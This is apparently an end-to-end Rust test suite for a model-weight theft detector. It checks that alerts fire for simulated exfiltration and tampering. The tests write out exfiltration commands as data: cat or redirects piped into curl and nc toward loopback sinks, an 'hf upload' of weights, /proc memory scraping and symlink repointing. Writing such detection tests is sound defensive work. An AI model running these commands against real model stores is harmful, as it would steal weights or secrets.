//! Detection end to end: real processes, the real agent, alerts as a user receives them.
use std::{
    io::{Read, Write},
    path::Path,
    process::{Command, Stdio},
};

use llmwatch_e2e::{Agent, TempDir, Value, load_socket_filter, secs, write_safetensors};

fn write_config(dir: &Path, yaml: &str) -> String {
    let p = dir.join("llmwatch.yaml");
    std::fs::write(&p, yaml).unwrap();
    p.to_str().unwrap().to_string()
}

fn alert(rule: &'static str) -> impl Fn(&Value) -> bool {
    move |v| v["rule"] == rule
}

/// An HTTP sink on loopback that swallows one request body and answers 200.
fn http_sink() -> (u16, std::thread::JoinHandle<u64>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let h = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        let mut buf = Vec::new();
        let mut chunk = [0u8; 65536];
        let mut body_len = None;
        loop {
            let n = s.read(&mut chunk).unwrap();
            if n == 0 {
                break;
            }
            buf.extend_from_slice(&chunk[..n]);
            if body_len.is_none()
                && let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n")
            {
                let head = String::from_utf8_lossy(&buf[..end]).to_lowercase();
                let len: usize = head
                    .lines()
                    .find_map(|l| {
                        l.strip_prefix("content-length:")
                            .map(|v| v.trim().parse().unwrap())
                    })
                    .unwrap_or(0);
                body_len = Some((end + 4, len));
            }
            if let Some((start, len)) = body_len
                && buf.len() >= start + len
            {
                break;
            }
        }
        let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        buf.len() as u64
    });
    (port, h)
}

#[test]
fn cat_piped_to_an_upload_raises_exfiltration() {
    let dir = TempDir::new("exfil");
    let model = dir.path().join("model.safetensors");
    let size = 2 * 1024 * 1024 + 333;
    write_safetensors(&model, size);
    let mut agent = Agent::watching(&[dir.path()], &[]);
    let (port, sink) = http_sink();
    let started = std::time::Instant::now();
    let status = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "cat {} | curl -s -o /dev/null --data-binary @- http://127.0.0.1:{port}/upload",
            model.display()
        ))
        .status()
        .unwrap();
    assert!(status.success());
    assert!(sink.join().unwrap() >= size as u64);
    let a = agent
        .wait_for(secs(10), alert("weight.exfiltration"))
        .expect("no weight.exfiltration alert");
    assert!(started.elapsed() < secs(10), "took {:?}", started.elapsed());
    assert_eq!(a["severity"], "critical");
    assert_eq!(a["files"][0]["path"], model.to_str().unwrap());
    // Raised as soon as the thresholds were crossed: at least half the model read by then.
    let read = a["files"][0]["bytes_read"].as_u64().unwrap();
    assert!(
        read * 2 >= size as u64 && read <= size as u64,
        "bytes_read {read} of {size}"
    );
    assert_eq!(a["network"][0]["dest"], "127.0.0.1");
    assert_eq!(a["network"][0]["port"], port);
    assert!(a["network"][0]["bytes_sent"].as_u64().unwrap() >= size as u64 / 10);
    assert_eq!(a["incomplete"], false);
    let summary = a["summary"].as_str().unwrap();
    assert!(summary.contains(&format!("127.0.0.1:{port}")), "{summary}");
    // The process chain names the shell that joined cat and curl.
    let chain: Vec<&str> = a["process"]["ancestry"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["comm"].as_str().unwrap())
        .collect();
    assert!(chain.contains(&"bash"), "{chain:?}");
}

/// The ways around `cat model | curl` that the kernel side used to miss: the shell opens
/// the file and the sender reads it from stdin (a redirect), or a child reads a descriptor
/// its parent opened. Each is exfiltration, named after the process that read.
#[test]
fn a_redirect_or_an_inherited_descriptor_into_nc_is_exfiltration() {
    let dir = TempDir::new("exfil-nc");
    let model = dir.path().join("model.safetensors");
    let size = 2 * 1024 * 1024 + 333;
    write_safetensors(&model, size);
    let mut agent = Agent::watching(&[dir.path()], &[]);
    for script in [
        "nc -N 127.0.0.1 {port} < {model}; true",
        "exec 3< {model}; cat <&3 | nc -N 127.0.0.1 {port}",
    ] {
        let (port, sink) = llmwatch_e2e::tcp_sink();
        let script = script
            .replace("{port}", &port.to_string())
            .replace("{model}", model.to_str().unwrap());
        let status = Command::new("bash").arg("-c").arg(&script).status().unwrap();
        assert!(status.success(), "{script}");
        assert_eq!(sink.join().unwrap(), size as u64);
        let a = agent
            .wait_for(secs(10), |v| {
                alert("weight.exfiltration")(v) && v["network"][0]["port"] == port
            })
            .unwrap_or_else(|| panic!("no weight.exfiltration for {script}"));
        assert_eq!(a["severity"], "critical");
        assert_eq!(a["files"][0]["path"], model.to_str().unwrap());
        let comm = a["process"]["comm"].as_str().unwrap();
        assert!(comm == "nc" || comm == "cat", "{script}: named {comm}");
    }
}

#[test]
fn cp_at_an_off_hours_time_raises_off_hours_access() {
    let dir = TempDir::new("offhours");
    let out = TempDir::new("offhours-out");
    let model = dir.path().join("model.gguf");
    let mut data = b"GGUF\x03\0\0\0".to_vec();
    data.resize(3 * 1024 * 1024, 1);
    std::fs::write(&model, &data).unwrap();
    let cfg = write_config(
        out.path(),
        "business_hours: {timezone: Europe/Berlin, days: [mon, tue, wed, thu, fri], start: '08:00', end: '19:00'}\n\
         rules: {weight.off_hours_access: {min_bytes: 1MiB}}\n",
    );
    // Sunday 04:00 in Berlin.
    let mut agent = Agent::watching(
        &[dir.path()],
        &["--config", &cfg, "--clock-start", "2026-11-22T03:00:00Z"],
    );
    let cp = Command::new("cp")
        .arg(&model)
        .arg(out.path().join("copy.gguf"))
        .spawn()
        .unwrap();
    let cp_pid = cp.id();
    assert!(cp.wait_with_output().unwrap().status.success());
    let a = agent
        .wait_for(secs(10), alert("weight.off_hours_access"))
        .expect("no off-hours alert");
    assert_eq!(a["process"]["pid"], cp_pid);
    assert!(
        a["summary"].as_str().unwrap().contains("Sun 04:"),
        "{}",
        a["summary"]
    );
    assert!(
        a["time"].as_str().unwrap().starts_with("2026-11-22T03:"),
        "{}",
        a["time"]
    );
    // cp is also an unexpected reader and a bulk read.
    assert!(agent.wait_for(secs(5), alert("weight.bulk_read")).is_some());
}

#[test]
fn allowed_server_reading_its_model_raises_nothing() {
    let dir = TempDir::new("server");
    let cfgdir = TempDir::new("server-cfg");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 3 * 1024 * 1024);
    let cfg = write_config(
        cfgdir.path(),
        "servers:\n  - name: test-server\n    argv: ['fake-inference-server *']\n    startup_window: 10m\n",
    );
    let mut agent = Agent::watching(
        &[dir.path()],
        &["--config", &cfg, "--clock-start", "2026-11-22T03:00:00Z"],
    );
    // The "server": argv[0] says what it is; it reads (and maps) its whole model.
    let server = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "exec -a fake-inference-server cat {} > /dev/null",
            model.display()
        ))
        .spawn()
        .unwrap();
    let server_pid = server.id();
    assert!(server.wait_with_output().unwrap().status.success());
    // A marker: an unexpected reader afterwards (all of the file: a header read would be an
    // access, no alert). Once its alert is in, the server's would be too.
    let marker = Command::new("cat")
        .arg(&model)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let marker_pid = marker.id();
    assert!(marker.wait_with_output().unwrap().status.success());
    agent
        .wait_for(secs(10), |v| {
            v["rule"] == "weight.unexpected_reader" && v["process"]["pid"] == marker_pid
        })
        .expect("marker alert");
    let about_server: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| v.get("rule").is_some() && v["process"]["pid"] == server_pid)
        .collect();
    assert!(
        about_server.is_empty(),
        "allowed server raised: {about_server:#?}"
    );
    let reads: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| v["kind"] == "file_read" && v["task"]["pid"] == server_pid)
        .collect();
    assert!(!reads.is_empty(), "the server's reads were not even seen");
}

#[test]
fn burst_of_gpu_processes_raises_spawn_storm() {
    let dir = TempDir::new("storm");
    let node = dir.path().join("nvidia0");
    let c = std::ffi::CString::new(node.to_str().unwrap()).unwrap();
    assert_eq!(
        // SAFETY: the path is a NUL-terminated C string alive until the call returns.
        unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(195, 0)) },
        0
    );
    let cfg = write_config(
        dir.path(),
        "rules: {gpu.spawn_storm: {max_spawns: 10, per: 1m}}\n",
    );
    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
    let status = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "for i in $(seq 20); do cat {} 2>/dev/null; done; true",
            node.display()
        ))
        .status()
        .unwrap();
    assert!(status.success());
    let a = agent
        .wait_for(secs(10), alert("gpu.spawn_storm"))
        .expect("no gpu.spawn_storm alert");
    assert_eq!(a["severity"], "high");
    assert!(
        a["summary"].as_str().unwrap().contains("GPU processes"),
        "{}",
        a["summary"]
    );
    // Each cat was also an unexpected GPU user.
    assert!(agent.wait_for(secs(2), alert("gpu.unexpected_user")).is_some());
}

#[test]
fn memory_scrape_of_a_server_by_proc_mem() {
    let dir = TempDir::new("scrape");
    let cfg = write_config(
        dir.path(),
        "servers:\n  - name: sleeper\n    argv: ['fake-model-server *']\n",
    );
    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
    let mut server = Command::new("bash")
        .arg("-c")
        .arg("exec -a fake-model-server sleep 3600")
        .spawn()
        .unwrap();
    let pid = server.id();
    // The agent has seen it become the server (its exec) before anyone scrapes it.
    agent
        .wait_for(secs(10), |v| {
            llmwatch_e2e::is(v, "proc_exec", pid) && v["argv"][0] == "fake-model-server"
        })
        .expect("the server's exec is reported");
    // Reading its memory through procfs (root may).
    let _f = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
    let a = agent.wait_for(secs(10), alert("host.memory_scrape"));
    let _ = server.kill();
    let _ = server.wait();
    let a = a.expect("no host.memory_scrape alert");
    assert_eq!(a["severity"], "critical");
    assert!(
        a["summary"].as_str().unwrap().contains("proc_mem_open"),
        "{}",
        a["summary"]
    );
}

#[test]
fn config_validate_names_every_problem_with_its_line() {
    let dir = TempDir::new("validate");
    let bad = write_config(
        dir.path(),
        "egress:\n  allow: ['10.0.0.0/33']\nbusiness_hours:\n  start: '25:00'\nrulez: {}\n",
    );
    let out = Command::new(llmwatch_e2e::agent_binary())
        .args(["config", "validate", &bad])
        .output()
        .unwrap();
    assert!(!out.status.success(), "a bad file must fail validation");
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(
        text.contains("egress.allow[0]") && text.contains("line 2"),
        "{text}"
    );
    assert!(
        text.contains("business_hours.start") && text.contains("line 4"),
        "{text}"
    );
    assert!(text.contains("rulez") && text.contains("line 5"), "{text}");
    let good = write_config(dir.path(), "inference_ports: [8000]\n");
    let out = Command::new(llmwatch_e2e::agent_binary())
        .args(["config", "validate", &good])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn repointing_a_snapshot_link_is_tamper() {
    let dir = TempDir::new("repoint");
    let repo = dir.path().join("models--acme--tiny");
    std::fs::create_dir_all(repo.join("blobs")).unwrap();
    std::fs::create_dir_all(repo.join("snapshots/main")).unwrap();
    let a = repo.join("blobs/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
    let b = repo.join("blobs/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb");
    write_safetensors(&a, 100_000);
    write_safetensors(&b, 120_000);
    let link = repo.join("snapshots/main/model.safetensors");
    std::os::unix::fs::symlink(
        format!("../../blobs/{}", a.file_name().unwrap().to_str().unwrap()),
        &link,
    )
    .unwrap();
    let mut agent = Agent::watching(&[dir.path()], &[]);
    assert_eq!(agent.ready["watched_files"], 2);
    // Swap the model behind the name, as `ln -sfn` does (new link, renamed over the old one).
    let tmp = repo.join("snapshots/main/.tmp-link");
    std::os::unix::fs::symlink(
        format!("../../blobs/{}", b.file_name().unwrap().to_str().unwrap()),
        &tmp,
    )
    .unwrap();
    std::fs::rename(&tmp, &link).unwrap();
    let alert = agent
        .wait_for(secs(15), |v| {
            v["rule"] == "weight.tamper"
                && v["summary"]
                    .as_str()
                    .is_some_and(|s| s.contains("points to a different file"))
        })
        .expect("repointed snapshot link not reported");
    assert_eq!(alert["files"][0]["path"], b.to_str().unwrap());
}

#[test]
fn config_reload_on_change_keeps_the_old_config_when_the_new_one_is_bad() {
    let dir = TempDir::new("reload");
    let cfgdir = TempDir::new("reload-cfg");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 500_000);
    let second = dir.path().join("second.safetensors");
    write_safetensors(&second, 500_000);
    let cfg = write_config(cfgdir.path(), "rules: {weight.bulk_read: {severity: high}}\n");
    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
    // A bad file: refused, and the reason names the key and line.
    std::fs::write(&cfg, "rules: {weight.bulk_read: {severity: extreme}}\n").unwrap();
    let refused = agent
        .wait_for(secs(15), |v| v["kind"] == "config_reload" && v["ok"] == false)
        .expect("bad reload not reported");
    let why = refused["error"].as_str().unwrap();
    assert!(
        why.contains("rules.weight.bulk_read.severity") && why.contains("line 1"),
        "{why}"
    );
    // The old configuration still runs: a read raises unexpected_reader.
    let c = std::process::Command::new("cat")
        .arg(&model)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let pid = c.id();
    c.wait_with_output().unwrap();
    agent
        .wait_for(secs(10), |v| {
            v["rule"] == "weight.unexpected_reader" && v["process"]["pid"] == pid
        })
        .expect("old config stopped working");
    // A good file turns the rule off.
    std::fs::write(&cfg, "rules: {weight.unexpected_reader: {enabled: false}}\n").unwrap();
    agent
        .wait_for(secs(15), |v| v["kind"] == "config_reload" && v["ok"] == true)
        .expect("good reload not applied");
    // Another file: the user's bulk read of the first is already reported (once per user and
    // file within `suppress`), so the marker reads a second one.
    let c = std::process::Command::new("cat")
        .arg(&second)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let pid = c.id();
    c.wait_with_output().unwrap();
    agent
        .wait_for(secs(10), |v| {
            v["rule"] == "weight.bulk_read" && v["process"]["pid"] == pid
        })
        .expect("marker");
    let off: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| v["rule"] == "weight.unexpected_reader" && v["process"]["pid"] == pid)
        .collect();
    assert!(
        off.is_empty(),
        "rule disabled by the reload still fired: {off:#?}"
    );
}

#[test]
fn a_manifest_mismatch_is_critical_tamper() {
    let dir = TempDir::new("manifest");
    let cfgdir = TempDir::new("manifest-cfg");
    // The agent hashes the files the manifest lists one after the other, in watched-set order
    // (device, inode), and reports each mismatch when its hash is done. The good file is the
    // one hashed first, so the bad one's alert is the marker that the good one was judged.
    let first = dir.path().join("first.safetensors");
    let second = dir.path().join("second.safetensors");
    let first_ino = write_safetensors(&first, 100_000);
    let second_ino = write_safetensors(&second, 100_000);
    let (good, bad) = if first_ino < second_ino {
        (first, second)
    } else {
        (second, first)
    };
    let sum = |p: &Path| {
        let out = Command::new("sha256sum").arg(p).output().unwrap();
        String::from_utf8(out.stdout)
            .unwrap()
            .split_whitespace()
            .next()
            .unwrap()
            .to_string()
    };
    let manifest = cfgdir.path().join("weights.sha256");
    std::fs::write(
        &manifest,
        format!(
            "{}  {}\n{}  {}\n",
            sum(&good),
            good.display(),
            "0".repeat(64),
            bad.display()
        ),
    )
    .unwrap();
    let cfg = write_config(
        cfgdir.path(),
        &format!("models: {{manifest: {}}}\n", manifest.display()),
    );
    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
    let a = agent
        .wait_for(secs(15), |v| {
            v["rule"] == "weight.tamper" && v["summary"].as_str().is_some_and(|s| s.contains("manifest"))
        })
        .expect("manifest mismatch not reported");
    assert_eq!(a["severity"], "critical");
    assert_eq!(a["files"][0]["path"], bad.to_str().unwrap());
    let about_good: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| v["rule"] == "weight.tamper" && v["files"][0]["path"] == good.to_str().unwrap())
        .collect();
    assert!(about_good.is_empty(), "{about_good:#?}");
}

#[test]
fn tokens_on_command_lines_never_reach_events_or_alerts() {
    let dir = TempDir::new("redact");
    let bin = TempDir::new("redact-bin");
    write_safetensors(&dir.path().join("model.safetensors"), 10_000);
    let hf = bin.path().join("hf");
    std::fs::write(&hf, "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(&hf, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mut agent = Agent::watching(&[dir.path()], &[]);
    let token = "hf_SuperSecretTokenValue1234567890";
    let child = Command::new(&hf)
        .args(["upload", "acme/stolen", ".", "--token", token])
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait_with_output().unwrap().status.success());
    let a = agent
        .wait_for(secs(10), |v| {
            v["rule"] == "exfil.tool" && v["process"]["pid"] == pid
        })
        .expect("exfil.tool alert");
    assert!(
        a["summary"].as_str().unwrap().contains("hf upload"),
        "{}",
        a["summary"]
    );
    let leaked: Vec<&Value> = agent
        .seen
        .iter()
        .chain(std::iter::once(&a))
        .filter(|v| v.to_string().contains(token))
        .collect();
    assert!(leaked.is_empty(), "token leaked: {leaked:#?}");
    let exec = agent.wait_for(secs(5), |v| v["kind"] == "proc_exec" && v["task"]["pid"] == pid);
    if let Some(exec) = exec {
        assert!(!exec.to_string().contains(token));
        let argv = exec["argv"].as_array().unwrap();
        assert_eq!(argv.last().unwrap(), "<redacted>", "{exec}");
    }
}

#[test]
fn another_process_loading_bpf_is_reported() {
    let dir = TempDir::new("bpfload");
    let mut agent = Agent::watching(&[dir.path()], &[]);
    let fd = load_socket_filter(b"llmwatch_test");
    let a = agent
        .wait_for(secs(10), |v| {
            v["rule"] == "host.bpf_load" && v["process"]["pid"] == std::process::id()
        })
        .expect("host.bpf_load not raised");
    assert_eq!(a["severity"], "info");
    assert!(
        a["summary"].as_str().unwrap().contains("llmwatch_test"),
        "{}",
        a["summary"]
    );
    // SAFETY: fd was opened by this test and is not used after this.
    unsafe { libc::close(fd) };
    // The agent's own loads (at its start) are not reported (other agents of parallel tests
    // are other processes, and are).
    let me = agent.pid();
    let own: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| v["rule"] == "host.bpf_load" && v["process"]["pid"] == me)
        .collect();
    assert!(own.is_empty(), "{own:#?}");
}
